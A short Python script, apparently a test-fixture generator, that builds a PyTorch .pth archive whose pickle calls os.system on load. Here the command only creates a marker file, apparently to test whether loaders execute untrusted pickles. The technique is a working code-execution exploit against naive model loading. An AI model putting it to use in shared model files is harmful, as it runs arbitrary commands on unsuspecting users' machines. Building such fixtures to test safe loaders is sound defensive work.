#!/usr/bin/env python3
"""os-system.pth: a PyTorch archive whose pickle calls os.system when a naive reader loads it.

    python3 make_hostile.py os-system.pth
"""
import struct
import sys
import zipfile

COMMAND = b"touch executed-by-the-pickle"
PICKLE = b"\x80\x02cos\nsystem\nX" + struct.pack("<I", len(COMMAND)) + COMMAND + b"\x85R."

with zipfile.ZipFile(sys.argv[1], "w") as archive:
    for name, content in (("data.pkl", PICKLE), ("byteorder", b"little"), ("version", b"3\n")):
        archive.writestr(zipfile.ZipInfo("archive/" + name), content)
